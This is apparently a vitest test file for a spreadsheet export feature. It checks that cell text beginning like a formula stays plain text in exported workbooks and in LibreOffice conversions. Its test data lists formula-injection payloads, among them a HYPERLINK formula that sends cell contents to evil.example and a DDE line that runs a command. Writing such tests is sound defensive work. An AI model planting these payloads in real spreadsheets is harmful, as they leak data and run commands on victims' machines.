import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, describe, expect, test } from 'vitest';
import { writeLedgerWorkbook } from '../../../../shared/exchange/write/writeLedgerWorkbook';
import { writeProblems } from '../../../../shared/exchange/write/writeProblems';
import type { Row } from '../../../../shared/ledger/defineLedger';
import { toInstant } from '../../../../shared/kernel/time';
import { soffice } from '../parcel/libreOffice';
import { countingIds, definitionOf, MemoryStore } from '../plan/memoryStore';
import { opened, planFile } from '../plan/planFile';
import { sheetOf } from '../plan/sheetOf';

// What a spreadsheet program would run if it took the text of a cell for a formula.
const runnable = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '＝1+1',
  '{=1+1}',
];

const checkpoints = definitionOf('checkpoints');
const nextId = countingIds();
const store = new MemoryStore();
for (const [at, text] of runnable.entries()) {
  const row: Row = {
    id: nextId(),
    values: {
      name: `${text}卡点${at}`,
      kind: '村口',
      road: text,
      remarks: `${text}\n第二行`,
      openedAt: toInstant(Date.UTC(2022, 2, 24)),
    },
  };
  store.put('checkpoints', row);
}

async function exported(): Promise<Uint8Array> {
  const written = await writeLedgerWorkbook({
    definition: checkpoints,
    rows: store.all('checkpoints'),
    language: 'zh',
    title: '卡点',
  });
  if (!written.ok) throw new Error(written.problem.tag);
  return written.value;
}

/** The markup of all sheets: where a formula would stand. */
function sheetMarkup(bytes: Uint8Array): string {
  return Object.entries(unzipSync(bytes))
    .flatMap(([path, part]) => (path.startsWith('xl/worksheets/sheet') ? [strFromU8(part)] : []))
    .join('');
}

async function expectUnchanged(bytes: Uint8Array): Promise<void> {
  const plan = await planFile(bytes, checkpoints, store);
  expect(plan.rejected).toEqual([]);
  expect(plan.updates).toEqual([]);
  expect(plan.unchanged).toHaveLength(runnable.length);
}

describe('text that begins like a formula', () => {
  test('is written as text, in cells of text format, and comes back as it was', async () => {
    const bytes = await exported();
    expect(sheetMarkup(bytes)).not.toMatch(/<f[ >]/);
    await expectUnchanged(bytes);
  });

  test('stays text in the workbook of problems that goes back to the sender', async () => {
    const sheet = sheetOf([['卡点名称', '类型'], ...runnable.map((text) => [text, text])]);
    const findings = runnable.map((shown, at) => ({
      rule: 'choice.unknown' as const,
      severity: 'error' as const,
      address: `B${at + 2}`,
      rowNumber: at + 2,
      column: 1,
      shown,
    }));
    const bytes = await writeProblems({
      sheet,
      header: { firstRow: 1, lastRow: 1, headers: ['卡点名称', '类型'], share: 1, recognised: 2 },
      plan: {
        inserts: [],
        updates: [],
        unchanged: [],
        rejected: findings.map((one) => ({
          rowNumber: one.rowNumber,
          findings: [one],
          values: {},
        })),
      },
      language: 'zh',
      describe: ({ shown }) => shown,
    });
    expect(sheetMarkup(bytes)).not.toMatch(/<f[ >]/);
    const [read] = opened(bytes).sheets;
    expect(read?.rows.slice(1).map((row) => row.slice(0, 2))).toEqual(
      runnable.map((text) => [
        { type: 'text', text },
        { type: 'text', text },
      ]),
    );
  });

  describe.skipIf(!soffice)('in LibreOffice', () => {
    const folder = mkdtempSync(join(tmpdir(), 'countyline-formulas-'));
    afterAll(() => rmSync(folder, { recursive: true, force: true }));

    test.each(['xlsx', 'ods', 'xls'])(
      'is shown as it stands and saved as text (%s)',
      { timeout: 200_000 },
      async (kind) => {
        const file = join(folder, 'out.xlsx');
        writeFileSync(file, await exported());
        const { status, stderr } = spawnSync(
          soffice ?? '',
          [
            `-env:UserInstallation=file://${join(folder, 'profile')}`,
            '--headless',
            '--convert-to',
            kind,
            '--outdir',
            join(folder, kind),
            file,
          ],
          { encoding: 'utf8', timeout: 150_000 },
        );
        if (status !== 0) throw new Error(stderr);
        const saved = new Uint8Array(readFileSync(join(folder, kind, `out.${kind}`)));
        if (kind === 'xlsx') expect(sheetMarkup(saved)).not.toMatch(/<f[ >]/);
        await expectUnchanged(saved);
      },
    );
  });
});
